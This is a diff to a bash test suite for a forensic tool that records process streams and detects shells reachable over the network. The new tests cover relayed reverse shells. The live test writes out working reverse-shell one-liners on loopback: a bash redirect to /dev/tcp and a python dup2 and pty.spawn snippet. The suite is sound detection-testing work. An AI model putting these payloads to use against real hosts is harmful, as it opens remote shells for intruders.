@@ -1,11 +1,14 @@
 # shells: the standard streams of every exec (record), and the shells on the
 # network report finds: on the shells fixture (fixtures/record-attacks shells:
 # a reverse shell, ncat and socat bind shells, each sent "id; uname -n", what
-# came back in fixtures/shells.truth), on benign logins, and live on loopback.
+# came back in fixtures/shells.truth), on the relayed reverse shells of
+# shells-relayed (ncat -e, socat with a pty, python's pty.spawn, the mkfifo
+# pipeline into ncat; fixtures/shells-relayed.truth), on benign logins, and
+# live on loopback.
 source "$(dirname "$0")/lib.sh"
 source "$(dirname "$0")/report-lib.sh"
 
-load_fixtures shells logins-benign basic
+load_fixtures shells shells-relayed logins-benign basic
 S=$SCRATCH/shells.db
 
 # query SQL ARGS...: `report ARGS --format csv` as table r, and SQL over it
@@ -60,6 +63,48 @@ check_eq "the bind shells' streams: pipes (ncat -e), a socketpair (socat EXEC)" 
 /bin/sh|pipe|pipe" \
 	"$(sql "$S" "SELECT DISTINCT args, stdin, stdout FROM process WHERE how = 'exec' AND args IN ('/bin/sh', '/bin/bash') ORDER BY 1")"
 
+# --- Relayed reverse shells: the shell does not hold the connection ----------------------------
+check_eq "truth: each relayed shell ran what it was sent; ncat -c ran its one command" "4|1" \
+	"$(grep -c '^[a-z-]* 10\.200\.0\.66 445[0-3]: .*uid=0(root) gid=0(root) groups=0(root) vm' fixtures/shells-relayed.truth)|$(grep -c '^ncat-c (benign) 10\.200\.0\.66 4454: uid=0(root)' fixtures/shells-relayed.truth)"
+# The process that connected to each of the attacker's ports, from the capture's connects.
+connector() {
+	q shells-relayed "SELECT k.comm || '/' || k.pid FROM ev_connect e JOIN task k ON k.id = e.task WHERE e.dport = $1"
+}
+check_eq "summary: the four relayed shells, each through the process holding its connection" \
+	"netshell|sh|10.200.0.66:4450|through $(connector 4450)
+netshell|bash|10.200.0.66:4451|through $(connector 4451)
+netshell|sh|10.200.0.66:4452|through $(connector 4452)
+netshell|sh|10.200.0.66:4453|piped through $(connector 4453)" \
+	"$(query "SELECT kind, rtrim(subject, '/0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE section = 'detection' AND kind LIKE '%shell' AND subject != '' ORDER BY target" summary shells-relayed.db)"
+check_eq "summary: what each ran is what the attacker sent (the login shell's profile first)" \
+	"4451|id -u; id; uname -n
+4450|id; uname -n
+4452|id; uname -n
+4453|id; uname -n" \
+	"$(query "SELECT substr(target, -4), substr(detail, instr(detail, ': ') + 2) FROM r WHERE kind = 'netshell' AND subject != '' ORDER BY 2, 1" summary shells-relayed.db)"
+check_eq "summary: ncat -c's one command and a script piped through a shell are not flagged" \
+	"bindshell|0|none
+netshell|4|" \
+	"$(query "SELECT kind, sum(subject != ''), ifnull(group_concat(CASE WHEN subject = '' THEN detail END), '') FROM r WHERE section = 'detection' AND kind LIKE '%shell' GROUP BY kind ORDER BY kind" summary shells-relayed.db)"
+check_eq "timeline: each relayed shell marked, on what it reads (pipes, a pty)" \
+	"/bin/sh|pipe|pipe
+bash -li|tty|tty
+/bin/sh|tty|tty
+/bin/sh -i|pipe|pipe" \
+	"$(query "SELECT args, stdin, stdout FROM r WHERE shell = 'netshell' ORDER BY ts_ns" timeline shells-relayed.db)"
+check_eq "timeline: ... each through the process holding its connection" \
+	"10.200.0.66:4450, through $(connector 4450)
+10.200.0.66:4451, through $(connector 4451)
+10.200.0.66:4452, through $(connector 4452)
+10.200.0.66:4453, piped through $(connector 4453)" \
+	"$(run_report timeline shells-relayed.db; grep -o '< [0-9.:]*, [a-z ]*through [a-z0-9]*/[0-9]*\]$' "$SCRATCH/out" | tr -d '<]' | sed 's/^ //')"
+check_match "timeline: its line names the connection and the relay" \
+	"/bin/sh -i  \\[shell on TCP 10\\.200\\.0\\.10:[0-9]+ < 10\\.200\\.0\\.66:4453, piped through ncat/[0-9]+\\]" \
+	"$(run_report timeline shells-relayed.db; cat "$SCRATCH/out")"
+check_eq "the mkfifo pipeline: the shell's output pipe is ncat's input" \
+	"1" \
+	"$(sql "$SCRATCH/shells-relayed.db" "SELECT count(*) FROM process s JOIN process n ON n.stdin_pipe = s.stdout_pipe WHERE s.args = '/bin/sh -i' AND n.comm = 'ncat' AND s.stderr_pipe = s.stdout_pipe")"
+
 # --- Benign: login shells, commands over ssh, captures without streams -------------------------
 check_eq "logins-benign: its login shells and ssh commands are no shell on the network" \
 	"netshell|0|none
@@ -74,8 +119,11 @@ bindshell||not recorded" \
 needs_root "shells: record the streams of execs" || exit 0
 db=$SCRATCH/live.db
 start_record "$db" -e process,connect,accept || { fail "shells: record" "did not start"; exit 0; }
-# The listener takes a port the kernel gives it, and says which once listening.
-python3 -c 'import os, socket, sys
+# listen_once NAME: a listener in the background on a port the kernel gives
+# it, which it names in $SCRATCH/NAME.port once listening; it sends the one
+# connection it accepts "exit" and reads what comes back
+listen_once() {
+	python3 -c 'import os, socket, sys
 l = socket.socket()
 l.bind(("127.0.0.1", 0))
 l.listen(1)
@@ -84,23 +132,45 @@ with open(sys.argv[1] + ".tmp", "w") as f:
     f.write(str(l.getsockname()[1]))
 os.rename(sys.argv[1] + ".tmp", sys.argv[1])
 s, _ = l.accept()
+s.settimeout(10)
 s.sendall(b"exit\n")
-s.recv(4096)' "$SCRATCH/port" &
+while s.recv(4096):
+    pass' "$SCRATCH/$1.port" &
+	for _ in $(seq 600); do # until it listens (python may be slow to start)
+		[ -s "$SCRATCH/$1.port" ] && break
+		sleep 0.05
+	done
+}
+listen_once reverse
 listener=$!
-for _ in $(seq 600); do # until it listens (python may be slow to start)
-	[ -s "$SCRATCH/port" ] && break
-	sleep 0.05
-done
-port=$(cat "$SCRATCH/port")
+port=$(cat "$SCRATCH/reverse.port")
 bash -c "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2> /dev/null < /dev/null
 wait "$listener"
+# A relayed reverse shell: python holds the connection, the shell a pty.
+listen_once relayed
+listener=$!
+python3 -c 'import os, pty, socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+pty.spawn(["/bin/sh", "-i"])' "$(cat "$SCRATCH/relayed.port")" > /dev/null 2>&1 < /dev/null &
+relay=$!
+wait "$listener" "$relay"
 echo casefile-streams | cat > "$SCRATCH/streams.out"
+printf casefile-pipe | cat | tr '[:lower:]' '[:upper:]' > "$SCRATCH/pipes.out"
 stop_record
 check_eq "record: a reverse shell's streams are its TCP connection, to the listener" \
 	"tcp|tcp|tcp|127.0.0.1|$port|127.0.0.1" \
 	"$(sql "$db" "SELECT stdin, stdout, stderr, r.addr, tcp_rport, l.addr FROM process p JOIN address r ON r.id = tcp_raddr JOIN address l ON l.id = tcp_laddr WHERE how = 'exec' AND args = 'bash --norc --noprofile -i'")"
+check_eq "report: the relayed shell, on a pty, through the python that connected" \
+	"netshell|sh/|127.0.0.1:$(cat "$SCRATCH/relayed.port")|through python3/$relay" \
+	"$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE kind = 'netshell' AND detail LIKE 'through%'")"
 check_eq "record: a pipeline's cat reads a pipe, writes a file" "pipe|file|" \
 	"$(sql "$db" "SELECT stdin, stdout, tcp_lport FROM process WHERE how = 'exec' AND args = 'cat' AND ppid = $$ LIMIT 1")"
+check_eq "record: a pipeline's pipe is one inode at both ends (cat writes what tr reads)" "1|1|1" \
+	"$(sql "$db" "SELECT c.stdin_pipe IS NOT NULL, c.stdin_pipe != c.stdout_pipe, c.stdout_pipe = t.stdin_pipe FROM process c JOIN process t ON t.ppid = c.ppid AND t.comm = 'tr' AND abs(t.t - c.t) < 1000000000 WHERE c.how = 'exec' AND c.args = 'cat' AND c.ppid = $$ AND t.how = 'exec' AND c.stdout = 'pipe'")"
+check_eq "record: no pipe, no pipe inode (a terminal, a file, a socket)" 0 \
+	"$(sql "$db" "SELECT count(*) FROM process WHERE (stdin != 'pipe' AND stdin_pipe IS NOT NULL) OR (stdout != 'pipe' AND stdout_pipe IS NOT NULL) OR (stdout = 'pipe' AND stdout_pipe IS NULL)")"
 check_eq "record: forks have no streams" 0 \
 	"$(sql "$db" "SELECT count(*) FROM process WHERE how = 'fork' AND stdin IS NOT NULL")"
 check_eq "record: every exec has its three streams" 0 \
